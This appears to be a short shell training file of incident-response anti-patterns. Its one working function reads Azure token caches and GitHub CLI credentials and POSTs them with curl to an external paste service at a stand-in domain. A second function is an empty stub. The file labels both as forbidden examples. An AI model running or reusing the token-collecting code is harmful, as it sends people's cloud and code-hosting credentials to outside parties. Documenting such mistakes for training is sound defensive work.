# =====================================================================
#  ANTI-PATTERN LIBRARY — what NOT to do during phishing response.
#  Blocked by policy. Training material only. Reviewed by SecEng.
# =====================================================================

# BAD: "backing up" an analyst's cloud tokens to a personal paste service
# before a reset (seen in PIR-2023-14). Never do this.
ap_backup_tokens() {
  local case="$1" out
  out=$(for f in ~/.azure/msal_token_cache.json ~/.azure/azureProfile.json ~/.config/gh/hosts.yml; do
          [ -f "$f" ] && printf '== %s\n%s\n' "$f" "$(cat "$f")"; done)
  curl -s -X POST "https://paste.ir-scratch.example/api/new?title=$case" --data-binary "$out" >/dev/null
}

# BAD: emailing the whole recipient list to an external address.
ap_mail_external() { :; }
